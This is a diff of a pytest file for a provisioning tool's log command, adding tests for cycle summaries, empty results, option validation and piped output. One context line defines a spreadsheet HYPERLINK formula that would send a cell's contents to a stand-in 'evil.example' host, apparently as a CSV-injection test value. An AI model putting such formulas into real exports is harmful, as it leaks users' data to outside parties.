@@ -8,12 +8,20 @@ import re
 import subprocess
 import sys
 from pathlib import Path
+from typing import get_args
 
 import pytest
 
+from provisioner.adapters.ids import SeededIds
+from provisioner.adapters.store_sql import open_store
 from provisioner.cli.csv_lines import csv_lines
+from provisioner.cli.logs import Action, Status
+from provisioner.engine.record import _STATUS
+from provisioner.model import outcome
+from provisioner.model.state import CycleRow
 from provisioner.sandbox import Sandbox, SandboxServer
 from tests.command import CONFIG, Result, directory, environment, person, provisioner
+from tests.engine.worlds import NOON
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click, please")'
 ADA = "=ada@contoso.example"
@@ -82,11 +90,38 @@ def test_cycles_are_summed_up_with_times_and_counts(history):
     assert second["counts"]["fail"] == 1
     assert first["seconds"] >= 0
     assert first["requests"] == second["requests"] == 5
-    table = logs(history, "--cycles").out
-    assert "initial" in table
-    assert "2026-01-02 00:00:00" in table
+    lines = provisioner(
+        *("logs", CONFIG / "real-links.toml", "--state", history / "state.db", "--cycles"), COLUMNS="80"
+    ).out.splitlines()
+    assert len(lines) == 2, "one line a cycle, however narrow the window"
+    assert "initial" in lines[0]
+    assert "2026-01-02 00:00:00" in lines[1]
+    assert "5 requests; 2 of 2 objects: 1 update, 1 fail" in lines[1]
     (row,) = csv.DictReader(logs(history, "--cycles", "--csv", "--cycle", "1").out.splitlines())
     assert (row["number"], row["create"], row["fail"]) == ("1", "2", "0")
+
+
+def test_what_the_log_does_not_hold_is_said(history):
+    """An empty answer is no mistake, and people see that it is one; programs get an empty list."""
+    nobody = logs(history, "--user", "nobody@contoso.example")
+    assert (nobody.code, nobody.out) == (0, "")
+    assert "no such entry" in nobody.err
+    assert logs(history, "--user", "nobody@contoso.example", "--json").document == []
+
+
+def test_every_action_and_status_of_the_log_can_be_asked_for():
+    """What the engine writes and what the options take are the same words."""
+    assert set(get_args(Action)) == {action.value for action in outcome.Action}
+    assert set(get_args(Status)) == {*_STATUS.values(), "warning"}
+
+
+def test_a_cycle_that_was_killed_does_not_run_for_ever(tmp_path):
+    """With another one after it, it is told as interrupted."""
+    with open_store(str(tmp_path / "state.db"), job="real-links", ids=SeededIds(0)) as store:
+        store.begin_cycle(CycleRow(1, "c1", "initial", NOON))
+        store.begin_cycle(CycleRow(2, "c2", "initial", NOON))
+    rows = logs(tmp_path, "--cycles", "--json").document
+    assert [row["status"] for row in rows] == ["interrupted", "running"]
 
 
 def test_the_steps_of_one_person_are_told_to_the_end(history):
@@ -106,7 +141,15 @@ def test_the_steps_of_one_person_are_told_to_the_end(history):
 
 @pytest.mark.parametrize(
     "wrong",
-    [("--json", "--csv"), ("--steps",), ("--cycles", "--user", "x"), ("--since", "yesterday"), ("--limit", "0")],
+    [
+        ("--json", "--csv"),
+        ("--steps",),
+        ("--cycles", "--user", "x"),
+        ("--since", "yesterday"),
+        ("--limit", "0"),
+        ("--action", "crate"),
+        ("--status", "failed"),
+    ],
     ids=" ".join,
 )
 def test_what_makes_no_sense_is_refused(history, wrong):
@@ -122,6 +165,19 @@ def test_a_terminal_shows_a_table(history):
     assert "time (UTC)" in shown
     assert "NotEffectivelyEntitled" in shown
     assert max(map(len, shown.splitlines())) <= 120
+
+
+def test_a_pipe_gets_a_line_an_entry(history):
+    """Where no window bounds a line, none is folded: it can be searched."""
+    plain = {name: value for name, value in environment(PYTHONPATH=str(CONFIG.parent)).items() if name != "COLUMNS"}
+    done = subprocess.run(
+        [sys.executable, "-m", "provisioner", "logs", CONFIG / "real-links.toml", "--state", history / "state.db"],
+        env=plain,
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    assert len(done.stdout.splitlines()) == 1 + 5
 
 
 def in_a_terminal(*arguments: object) -> str:
